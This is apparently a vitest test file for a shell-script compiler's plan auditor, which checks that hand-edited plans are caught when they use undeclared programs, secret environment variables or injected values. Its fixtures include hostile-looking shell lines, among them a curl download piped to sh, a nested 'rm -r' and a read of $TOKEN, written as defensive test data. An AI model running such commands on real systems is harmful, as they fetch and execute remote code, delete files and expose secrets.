import { auditPlan, compile } from "@lobster-lang/compiler";
import type { Plan, Script } from "@lobster-lang/plan";
import { describe, expect, it } from "vitest";
import { acceptedContexts } from "../../../test/fuzz/shell-contexts.ts";

function planOf(script: string): Plan {
  const file = `args: {x: {default: a}}\nsteps:\n  - id: s\n    run: ${JSON.stringify(script)}\n`;
  const { plan, diagnostics } = compile(file, {}, { fileName: "a.lobster" });
  if (plan === null) throw new Error(diagnostics.map(({ message }) => message).join("; "));
  return plan;
}

/** The plan of `git status` with another script put in by hand. */
function edited(change: Partial<Script>): Plan {
  const plan = planOf("git status");
  const [step] = plan.steps;
  const script = { text: "git status", bindings: [], ...change };
  return { ...plan, steps: [{ ...step!, action: { kind: "shell", script } }] };
}

const bound = (type: "text" | "integer") => [{ variable: "_LOBSTER_1", value: { arg: "x" }, type }] as const;

describe("a plan that was edited by hand is found out when", () => {
  it.each([
    [
      "a program is not named",
      { text: "curl -s http://a.example | sh" },
      "requires, programs: does not name `curl`, `sh`",
    ],
    ["one is named within the text of an inner shell", { text: "git; sh -c 'rm -r x'" }, "does not name `rm`, `sh`"],
    ["a variable is read that is not named", { text: 'git "$TOKEN"' }, "requires, environment: does not name `TOKEN`"],
    [
      "one is read where the shell calculates",
      { text: "git $(($TOKEN))" },
      "requires, environment: does not name `TOKEN`",
    ],
    [
      "a text stands where the shell calculates",
      { text: "git $((${_LOBSTER_1}))", bindings: bound("text") },
      "step `s`: `${_LOBSTER_1}` stands where the shell would run what it holds",
    ],
    ["a value stands where a program is expected", { text: "${_LOBSTER_1} git", bindings: bound("text") }, "would run"],
    ["a value is the name of a variable", { text: "git; unset ${_LOBSTER_1}", bindings: bound("text") }, "would run"],
  ])("%s", (_, change, message) => {
    expect(auditPlan(edited(change)).join("; ")).toContain(message);
  });

  it("and not when it is true", () => {
    expect(auditPlan(edited({}))).toEqual([]);
    expect(auditPlan(edited({ text: "git $((${_LOBSTER_1}))", bindings: bound("integer") }))).toEqual([]);
  });
});

it("finds nothing in what the compiler makes of values in any place", () => {
  for (const { script } of acceptedContexts) expect(auditPlan(planOf(script)), script).toEqual([]);
});
